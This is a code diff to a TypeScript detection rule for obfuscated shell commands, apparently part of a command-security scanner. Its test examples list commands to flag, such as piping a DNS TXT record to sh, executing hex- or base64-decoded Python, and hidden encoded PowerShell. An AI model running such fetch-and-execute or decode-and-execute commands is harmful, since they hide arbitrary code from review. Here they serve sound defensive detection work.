@@ -2,6 +2,7 @@ import type { Severity } from '@ase/schemas'
 import { powershellCall, shellCall } from '../../examples.ts'
 import { hitsByShell, worst, worstCommand } from '../../matching/hits.ts'
 import type { Rule } from '../../rule.ts'
+import { runsDecodedCode } from '../../code/decoded-code.ts'
 import type { Command, Line } from '../../shell/command.ts'
 import { constantOutput } from '../../shell/constant-output.ts'
 import { decodes, decodesSimple } from '../../shell/decoders.ts'
@@ -28,6 +29,8 @@ export const commandObfuscation: Rule = {
   ],
   examples: {
     flags: [
+      shellCall('host -t txt a.files.example | cut -c 9- | sh'),
+      shellCall('python3 -c "exec(bytes.fromhex(\'7072696e74283129\').decode())"'),
       shellCall('base64 -d payload.txt | bash'),
       shellCall('xxd -r -p blob | sh'),
       powershellCall('powershell -nop -w hidden -enc ZABpAHIA'),
@@ -42,6 +45,7 @@ export const commandObfuscation: Rule = {
       shellCall(`python3 -c 'import zlib,base64;exec(zlib.decompress(base64.b64decode("eJw=")))'`),
     ],
     passes: [
+      shellCall('host -t txt example.com'),
       shellCall('base64 -d blob.txt > image.png'),
       shellCall('echo aGVsbG8= | base64 -d'),
       shellCall('eval "$(ssh-agent -s)"'),
@@ -62,7 +66,8 @@ const interest = {
 }
 
 function judge({ index, codes, disguised }: ShellReading): Severity | null {
-  if (codes.some(({ runsUnseen }) => runsUnseen === 'decoder')) return 'high'
+  if (codes.some(({ runsUnseen, code }) => runsUnseen === 'decoder' || runsDecodedCode(code)))
+    return 'high'
   if (index().pipes.some(runsDecoded)) return 'high'
   const found = worstCommand(index(), interest, judgeCommand)
   return disguised ? worst([found, 'medium']) : found
